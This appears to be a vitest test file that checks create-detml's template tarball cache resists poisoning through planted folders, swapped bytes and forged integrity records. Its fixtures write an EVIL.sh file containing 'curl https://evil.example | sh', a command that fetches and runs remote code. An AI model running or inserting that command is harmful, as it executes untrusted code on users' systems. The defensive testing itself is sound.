// No cache poisoning: what sits in ~/.cache/create-detml is never rendered unless its bytes are the registry's.
import { mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { cacheDir } from '../../src/cache-dir.ts';
import { indexedIntegrity } from '../../sync/package-cache.ts';
import { runSync } from '../../sync/run-sync.ts';
import { forgetResolvedPackages } from '../../sync/template-source.ts';
import { isolateRegistryRuns, packageTarball, sri, startNpmRegistry } from '../helpers/npm-registry.ts';
import { createProject, type Project } from '../helpers/sync-project.ts';
import { tempDir } from '../helpers/tmp.ts';

isolateRegistryRuns();

// The attacker's variant of a release: same name and version, plus a file that would end up in every project.
const poisoned = (version: string, templateVersion: string) =>
  packageTarball(version, templateVersion, (pkg) =>
    writeFileSync(join(pkg, 'templates', 'demo', 'files', 'EVIL.sh'), 'curl https://evil.example | sh\n'),
  );

const hexOf = (integrity: string) => Buffer.from(integrity.slice(7), 'base64').toString('hex');

// A project recorded as made by create-detml@0.0.9 (demo 1.0.0), synced to the templates of create-detml@0.1.0.
async function setup(): Promise<{ p: Project; genuine: { old: string; next: string } }> {
  const r = await startNpmRegistry();
  Object.assign(process.env, r.env, { DETML_CACHE_DIR: join(tempDir(), 'cache') });
  delete process.env.DETML_TARBALL_DIR;
  const genuine = {
    old: r.publish('0.0.9', packageTarball('0.0.9', '1.0.0')),
    next: r.publish('0.1.0', packageTarball('0.1.0', '1.1.0')),
  };
  const p = await createProject('1.0.0');
  const state = JSON.parse(p.read('.detml/state.json'));
  state.generator.version = '0.0.9';
  p.write('.detml/state.json', `${JSON.stringify(state, null, 2)}\n`);
  p.commit('made by 0.0.9');
  return { p, genuine };
}

const dryRun = (p: Project) => runSync({ cwd: p.dir, mode: 'dry-run', source: { templatesFrom: '0.1.0' } });

describe('the tarball cache trusts bytes, not names', () => {
  it('a planted entry (old-style folder, or wrong bytes under the right integrity) is never rendered', async () => {
    const { p, genuine } = await setup();
    for (const [version, template, integrity] of [
      ['0.0.9', '1.0.0', genuine.old],
      ['0.1.0', '1.1.0', genuine.next],
    ] as const) {
      const legacy = join(cacheDir(), `create-detml@${version}`, 'templates', 'demo', 'files');
      mkdirSync(legacy, { recursive: true });
      writeFileSync(join(legacy, 'EVIL.sh'), 'curl https://evil.example | sh\n');
      writeFileSync(
        join(cacheDir(), `create-detml@${version}`, 'package.json'),
        JSON.stringify({ name: 'create-detml', version }),
      );
      mkdirSync(join(cacheDir(), 'tarballs'), { recursive: true });
      writeFileSync(join(cacheDir(), 'tarballs', `sha512-${hexOf(integrity)}.tgz`), poisoned(version, template));
      mkdirSync(join(cacheDir(), 'index'), { recursive: true });
      writeFileSync(join(cacheDir(), 'index', `create-detml@${version}`), `${integrity}\n`);
    }
    const result = await dryRun(p);
    expect(result).toMatchObject({ from: '1.0.0', to: '1.1.0' });
    expect(result.plan.map((e) => e.path)).not.toContain('EVIL.sh');
    // The swapped entries were replaced by the registry's bytes.
    expect(readdirSync(join(cacheDir(), 'tarballs')).sort()).toEqual(
      [genuine.old, genuine.next].map((i) => `sha512-${hexOf(i)}.tgz`).sort(),
    );
  });

  it("one project's state cannot choose what another project renders", async () => {
    const { p, genuine } = await setup();
    // The attacker's repository records its own tarball's integrity for a real version: refused, nothing cached.
    const attacker = JSON.parse(p.read('.detml/state.json'));
    attacker.generator.integrity = sri(poisoned('0.0.9', '1.0.0'));
    const honest = p.read('.detml/state.json');
    p.write('.detml/state.json', `${JSON.stringify(attacker, null, 2)}\n`);
    p.commit('attacker state');
    await expect(dryRun(p)).rejects.toThrow(
      /The registry's create-detml@0.0.9 .* is not the one this project was created with/,
    );
    expect(indexedIntegrity('0.0.9')).toBeUndefined();
    forgetResolvedPackages();
    // Another project made by 0.0.9 renders the registry's 0.0.9.
    p.write('.detml/state.json', honest);
    p.commit('honest state');
    const result = await dryRun(p);
    expect(result.plan.map((e) => e.path)).not.toContain('EVIL.sh');
    expect(indexedIntegrity('0.0.9')).toBe(genuine.old);
  });
});
